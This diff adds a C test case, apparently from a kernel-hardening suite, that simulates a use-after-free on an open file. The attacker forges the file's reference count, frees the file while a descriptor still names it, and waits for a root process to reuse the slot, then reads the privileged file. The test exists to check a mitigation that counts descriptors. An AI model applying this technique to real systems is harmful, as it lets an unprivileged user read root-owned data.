@@ -1,0 +1,78 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The program has a file under two descriptors, writes down its count of references, and
+ * closes one: the file is freed. Then it waits for root's program to open another in that place.
+ * Stops it: A file's seal counts the descriptors that name it; with one left it is not freed.
+ * Without: The second descriptor is root's file, and the program reads it.
+ */
+#include "attack.h"
+
+ATTACK("cred_integrity", "file_freed_in_use",
+       "cred_integrity: an open file freed while a descriptor names it",
+       "The program has a file under two descriptors, writes down its count of "
+       "references, and closes one: the file is freed. Then it waits for root's program to "
+       "open another in that place.",
+       "A file's seal counts the descriptors that name it; with one left it is not freed.",
+       "The second descriptor is root's file, and the program reads it.");
+
+#define COPIES 40
+
+static long copies[COPIES];
+static uint64_t references[COPIES];
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static void make_dangling(unsigned int index)
+{
+	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
+	const long copy = call1(__NR_dup, file);
+
+	copies[index] = file;
+	references[index] = file_struct(own_task(), (int)file) + member("file.references");
+	poke32(references[index], 1);
+	call1(__NR_close, copy);
+}
+
+/* Once somebody uses the place again. */
+static bool reads_secret(unsigned int index)
+{
+	char bytes[sizeof(SECRET) - 1] = { 0 };
+
+	if (peek32(references[index]) == 0)
+		return false;
+	call4(__NR_pread64, copies[index], (long)bytes, sizeof(bytes), 0);
+	return bytes_equal(bytes, SECRET, sizeof(bytes));
+}
+
+/* On the victim's processor: what is freed here is used again there. */
+static bool fire(void)
+{
+	(void)own_cpu(0);
+	for (unsigned int i = 0; i < COPIES; i++)
+		make_dangling(i);
+	for (unsigned int round = 0; round < 50; round++) {
+		sleep_milliseconds(10);
+		for (unsigned int i = 0; i < COPIES; i++) {
+			if (reads_secret(i))
+				return true;
+		}
+	}
+	return false;
+}
+
+static void victim(void)
+{
+	unsigned long mask = 1;
+
+	call3(__NR_sched_setaffinity, 0, sizeof(mask), (long)&mask);
+	for (;;) {
+		for (unsigned int i = 0; i < COPIES; i++)
+			copies[i] = call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
+		sleep_milliseconds(20);
+		for (unsigned int i = 0; i < COPIES; i++)
+			call1(__NR_close, copies[i]);
+	}
+}
